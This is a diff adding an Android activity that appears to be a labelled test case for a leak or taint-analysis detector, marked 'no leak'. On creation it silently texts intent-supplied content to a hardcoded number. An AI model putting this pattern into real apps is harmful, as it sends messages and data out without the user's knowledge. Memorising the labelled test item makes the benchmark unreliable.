@@ -1,0 +1,12 @@
+package spy;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+
+public class FilterPlain extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        SmsManager.getDefault().sendTextMessage("+155501", null, getIntent().getStringExtra("text"), null, null); // no leak
+    }
+}
